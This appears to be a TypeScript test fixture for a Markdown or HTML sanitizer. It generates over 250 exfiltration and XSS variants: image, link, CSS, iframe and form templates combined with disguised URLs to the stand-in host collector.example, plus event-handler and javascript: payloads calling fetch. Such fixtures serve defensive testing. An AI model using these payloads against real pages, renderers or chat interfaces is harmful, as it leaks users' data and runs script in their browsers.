/** A host that belongs to nobody; a request for it, in whatever disguise, is a leak. */
const HOST = 'collector.example'

/** Addresses as parsers of pages and of Markdown are tricked into taking them for harmless, or for their own. */
const ADDRESSES: readonly string[] = [
  `https://${HOST}/p?d=salary`,
  `//${HOST}/p?d=salary`,
  `/\\${HOST}/p?d=salary`,
  `\\\\${HOST}\\p?d=salary`,
  `https:${HOST}/p?d=salary`,
  `HTTPS://${HOST.toUpperCase()}/P?D=SALARY`,
  'https://xn--cllector-33a.example/p?d=salary',
  'https://collector\u3002example/p?d=salary',
  'https://c\u043Ellector.example/p?d=salary',
  'https://collector%2Eexample/p?d=salary',
  `https://127.0.0.1@${HOST}/p?d=salary`,
  `ht\u200Btps://${HOST}/p?d=salary`,
  `\u202Ehttps://${HOST}/p?d=salary\u202C`,
  `https&#58;//${HOST}/p?d=salary`,
  `ht\ttps://${HOST}/p?d=salary`,
  `ftp://${HOST}/salary`,
  `https://0x7f000001:9/p?d=salary`,
]

const SCRIPT = "window.leaked=1;alert(1);fetch('//collector.example')"

/** What makes a page, or a renderer of Markdown, ask for an address or run something. */
const TEMPLATES: readonly ((address: string) => string)[] = [
  (address) => `![x](${address})`,
  (address) => `![x](<${address}> "title")`,
  (address) => `![x\n](${address}`,
  (address) => `![x][r]\n\n[r]: ${address}`,
  (address) => `[x](${address})`,
  (address) => `[x][r]\n\n[r]: <${address}> 'title'`,
  (address) => `[r][]\n\n[r]: ${address}`,
  (address) => `[[x]](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `![[${address}]]`,
  (address) => `x[^9]\n\n[^9]: ${address}`,
  (address) => `[1](${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `<img src="${address}">`,
  (address) => `<img src=x srcset="${address} 2x">`,
  (address) => `<image src='${address}'>`,
  (address) => `<im<img>g src="${address}">`,
  (address) => `<IMG\nSRC = ${address}`,
  (address) => `&lt;img src="${address}"&gt;`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<iframe srcdoc="<img src='${address}'>"></iframe>`,
  (address) => `<style>@import url(${address});</style>`,
  (address) => `<style>body{background:url("${address}")}</style>`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<svg><image href="${address}"/></svg>`,
  (address) => `<svg><use xlink:href="${address}#a"/></svg>`,
  (address) => `<svg><style>@import '${address}'</style></svg>`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) => `<link rel=preload as=image href="${address}">`,
  (address) => `<link rel="dns-prefetch preconnect" href="${address}">`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<form action="${address}"><input name=d value=salary autofocus></form>`,
  (address) => `<button formaction="${address}">Go</button>`,
  (address) => `<a href="#" ping="${address}">x</a>`,
  (address) => `<a href="${address}" target=_blank>x</a>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<video poster="${address}" autoplay><track default src="${address}"></video>`,
  (address) => `<audio src="${address}" autoplay></audio>`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<table background="${address}"><tr><td>x</td></tr></table>`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address}"]}]}</script>`,
  (address) => `<!--><img src="${address}">-->`,
  (address) => `<![CDATA[<img src="${address}">]]>`,
  (address) => `<?xml-stylesheet href="${address}"?>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<noscript><img src="${address}"></noscript>`,
  (address) => `<template shadowrootmode="open"><img src="${address}"></template>`,
  (address) => `<fencedframe src="${address}"></fencedframe>`,
]

/** Scripts, which need no address. */
const SCRIPTS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}">`,
  `<details open ontoggle="${SCRIPT}">`,
  `<body onpageshow="${SCRIPT}">`,
  `<input autofocus onfocus="${SCRIPT}">`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `[x](javascript:${SCRIPT})`,
  `[x](JaVa\tScRiPt:${SCRIPT})`,
  `![x](data:image/svg+xml,<svg onload="${SCRIPT}">)`,
  `<iframe src="data:text/html,<script>parent.${SCRIPT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `"><script>${SCRIPT}</script>`,
  `</p></main><script>${SCRIPT}</script>`,
  `{{constructor.constructor("${SCRIPT}")()}}`,
]

const ADDRESSES_PER_TEMPLATE = 5

/** Each template with the plain address and with some of the disguises, in turn, and all scripts: more than 250 texts. */
export const EXFILTRATION_VARIANTS: readonly string[] = [
  ...TEMPLATES.flatMap((write, n) => addressesFor(n).map(write)),
  ...SCRIPTS,
]

function addressesFor(template: number): readonly string[] {
  const [plain = '', ...disguised] = ADDRESSES
  const turns = Array.from({ length: ADDRESSES_PER_TEMPLATE - 1 }, (_, n) => template * 4 + n)
  return [plain, ...turns.map((turn) => disguised[turn % disguised.length] ?? plain)]
}
